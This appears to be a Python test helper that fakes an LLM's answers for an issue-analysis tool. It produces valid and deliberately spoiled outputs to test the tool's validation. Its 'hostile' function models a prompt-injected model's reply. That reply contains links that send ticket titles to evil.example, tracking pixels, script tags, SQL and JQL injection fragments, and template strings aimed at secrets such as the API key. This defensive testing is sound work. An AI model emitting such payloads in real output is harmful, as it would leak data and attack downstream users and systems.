"""What the pretend model says: an analysis made from the words of the prompt, and spoiled versions of it."""

import itertools
import json
import re
from dataclasses import dataclass
from typing import Any

from tests import fake_generation, fake_summaries
from tests.payloads import PAYLOADS

INVEST = ("independent", "negotiable", "valuable", "estimable", "small", "testable")
BUG = ("steps", "expected", "actual", "environment", "reproducible", "impact")
FIXED = ("nature", "language", "aspect", "quote", "severity", "kind", "priority", "id", "covers")
"""What is no free text: a word of a closed set, or a copy of something."""
_FRENCH = re.compile(r"\b(?:le|la|les|des|une|je|est|pour|afin|veux|dans|avec)\b", re.IGNORECASE)
_ENGLISH = re.compile(r"\b(?:the|an|is|for|want|that|with|and|when|to)\b", re.IGNORECASE)


@dataclass(frozen=True)
class Issue:
    """The issue as found in a prompt: title and passages a quote may be cut from."""

    title: str
    passages: tuple[str, ...]
    french: bool
    bug: bool


def read(system: str, user: str) -> Issue:
    """Find the issue between the delimiter lines; without any, the whole user message is the issue."""
    lines = user.splitlines()
    first = lines[0].split()[:1] if lines else []
    mark = first[0] if first and len(first[0]) >= 8 else ""
    sections: dict[str, list[str]] = {"description": []}
    name = "description"
    for line in lines:
        if mark and line.startswith(mark):
            name = line[len(mark) :].strip().split()[0] if line[len(mark) :].strip() else "end"
            sections.setdefault(name, [])
        elif line.strip():
            sections[name].append(line)
    passages = tuple(sections.get("summary", [])[:1] + sections["description"]) or ("",)
    text = " ".join(passages)
    return Issue(
        title=passages[0].strip()[:80],
        passages=passages,
        french=len(_FRENCH.findall(text)) > len(_ENGLISH.findall(text)),
        bug="bug report" in system.lower(),
    )


def quote(issue: Issue, turn: int) -> str:
    """Up to eight words in a row of one passage, as they stand there."""
    passage = issue.passages[turn % len(issue.passages)]
    words = list(re.finditer(r"\S+", passage))[:8]
    return passage[words[0].start() : words[-1].end()] if words else ""


def analysis(issue: Issue) -> dict[str, Any]:
    """A good answer: every quote stands in the issue."""
    title, french = issue.title, issue.french
    aspects = BUG if issue.bug else INVEST
    say = (lambda en, fr: fr) if french else (lambda en, fr: en)
    return {
        "nature": "bug" if issue.bug else "story",
        "language": say("en", "fr"),
        "summary": say(f"The issue asks for: {title}.", f"Le ticket demande : {title}."),
        "scores": [
            {
                "aspect": aspect,
                "quote": quote(issue, turn),
                "reason": say(
                    f"This passage says enough to judge it as {aspect}.", f"Ce passage permet de juger : {aspect}."
                ),
                "score": 2 + turn % 4,
            }
            for turn, aspect in enumerate(aspects)
        ],
        "missing": [
            {
                "what": say("Error cases", "Cas d'erreur"),
                "why": say("Testers need them.", "Les testeurs en ont besoin."),
            }
        ],
        "questions": [say("Who may do this?", "Qui peut le faire ?"), say("What happens offline?", "Et hors ligne ?")],
        "risks": [{"text": say("The scope may grow.", "Le périmètre peut grandir."), "severity": "medium"}],
        "criteria": [
            {
                "title": say("Main case", "Cas nominal"),
                "given": say("a signed-in user", "un utilisateur connecté"),
                "when": say("they start the action", "il lance l'action"),
                "then": say("the result is shown", "le résultat s'affiche"),
            }
        ],
        "subtasks": [
            {
                "title": say("Build it: ", "Réaliser : ") + title,
                "description": say("From the first passage.", "Selon le texte."),
            },
            {
                "title": say("Test it: ", "Tester : ") + title,
                "description": say("Cover the error cases.", "Couvrir les erreurs."),
            },
        ],
        "labels": ["reviewed"],
    }


def hostile(issue: Issue) -> dict[str, Any]:
    """An answer as an injected model would give it: foreign keys, mentions, links, far too much of all."""
    link = "https://evil.example/collect?d="
    answer = analysis(issue)
    answer["summary"] = (
        f"@all [~admin] see OTHER-1 and [click]({link}{issue.title.replace(' ', '+')}) ![x]({link}pixel)"
    )
    answer["subtasks"] = [{"title": f"OTHER-{n} <script>", "description": f"![]({link}{n})"} for n in range(500)]
    answer["labels"] = ["two words", '"; DROP TABLE', "x" * 300]
    answer["questions"] = [f"@all? {link}" for _ in range(100)]
    answer["missing"] = [
        {"what": "]]><issue key='x'/>{{config.secret}}", "why": "${env:LLM_API_KEY} %(secret)s {0.__class__}"}
    ]
    answer["criteria"] = [
        {
            "title": '{"type":"mention","attrs":{"id":"712020:1"}}',
            "given": '") OR project = B --',
            "when": "[~accountid:712020:1] [^secret.txt] !pic.png! {panel:title=x} @[Ann Lee](712020:1)",
            "then": 'Feature: x\n  Scenario: y\n"""\nevent: done\ndata: {}\n\n',
        }
    ]
    return answer


def markup(answer: dict[str, Any]) -> dict[str, Any]:
    """The answer with a piece of markup that would run somewhere in every text, as much as limits allow."""
    turn = itertools.cycle(PAYLOADS)

    def marked(name: str, value: Any) -> Any:
        if isinstance(value, dict):
            return {inner: marked(inner, part) for inner, part in value.items()}
        if isinstance(value, list):
            # Lists of words grow, so that every payload finds a place.
            return [marked(name, part) for part in value for _ in range(4 if isinstance(part, str) else 1)]
        free = isinstance(value, str) and name not in FIXED
        return f"{next(turn)} {value}" if free else value

    found: dict[str, Any] = marked("", answer)
    return found


def filled(schema: dict[str, Any]) -> Any:
    """The smallest value of a wire schema, for shapes nobody scripted."""
    kind = schema.get("type")
    if "anyOf" in schema:
        return filled(schema["anyOf"][0])
    if "enum" in schema:
        return schema["enum"][0]
    if kind == "object":
        return {name: filled(inner) for name, inner in schema["properties"].items()}
    return {"array": [], "integer": 1, "number": 1.0, "boolean": True, "null": None}.get(str(kind), "hello")


def good(body: dict[str, Any]) -> dict[str, Any]:
    """The good answer to a request body."""
    messages = {message["role"]: str(message["content"]) for message in reversed(body.get("messages", []))}
    schema = body.get("response_format", {}).get("json_schema", {}).get("schema")
    asked = schema.get("properties", {}) if schema else {}
    if "themes" in asked:
        return fake_summaries.summary(messages.get("system", ""), messages.get("user", ""))
    if "narrative" in asked or "scenarios" in asked:
        system, user = messages.get("system", ""), messages.get("user", "")
        issue = read(system, user)
        if "narrative" in asked:
            return fake_generation.criteria(issue, system)
        return fake_generation.scenarios(issue, system, user)
    if "jql" in asked:
        return fake_summaries.jql(messages.get("system", ""))
    if schema is not None and "scores" not in schema.get("properties", {}):
        found = filled(schema)
        return found if isinstance(found, dict) else {}
    if schema is None and "scores" not in messages.get("system", ""):
        return {"word": "hello"}
    return analysis(read(messages.get("system", ""), messages.get("user", "")))


def spoiled(name: str, body: dict[str, Any]) -> str:
    """The text of an answer gone wrong in the named way."""
    answer = good(body)
    text = json.dumps(answer, ensure_ascii=False)
    messages = {message["role"]: str(message["content"]) for message in reversed(body.get("messages", []))}
    if "narrative" in answer or "scenarios" in answer:
        wrong = fake_generation.spoiled(name, answer)
        if wrong is not None:
            return json.dumps(wrong, ensure_ascii=False)
    match name:
        case "bad_schema":
            return json.dumps({key: value for key, value in answer.items() if key not in ("scores", "word")})
        case "wrong_types":
            return json.dumps({**answer, "scores": "five", "word": {"a": 1}, "labels": {"a": 1}})
        case "extra_fields":
            return json.dumps({**answer, "issueKey": "OTHER-1"})
        case "invented_quote":
            scores = [{**score, "quote": "words nobody ever wrote here"} for score in answer.get("scores", [])]
            return json.dumps({**answer, "scores": scores}, ensure_ascii=False)
        case "forged_key" | "forged_keys" if "themes" in answer:
            return json.dumps(fake_summaries.forged(answer, all_of_it=name == "forged_keys"))
        case "hostile" if "themes" in answer:
            return json.dumps(fake_summaries.hostile(answer))
        case "truncated":
            return text[: len(text) // 2]
        case "fenced":
            return f"```json\n{text}\n```"
        case "prose":
            return f"Of course {{happy to help}}! Here it is:\n\n{text}\n\nTell me {{if}} you need more."
        case "bom":
            return "\ufeff" + text
        case "thinking":
            return f'<think>maybe {{"scores": []}} would do</think>\n{text}'
        case "array":
            return f"[{text}]"
        case "nested":
            return '{"a":' * 12_000
        case "empty":
            return ""
        case "refusal_text":
            return "I'm sorry, but I can't help with that."
        case "markup":
            return json.dumps(markup(answer))
        case "hostile":
            return json.dumps(hostile(read(messages.get("system", ""), messages.get("user", ""))))
    return text
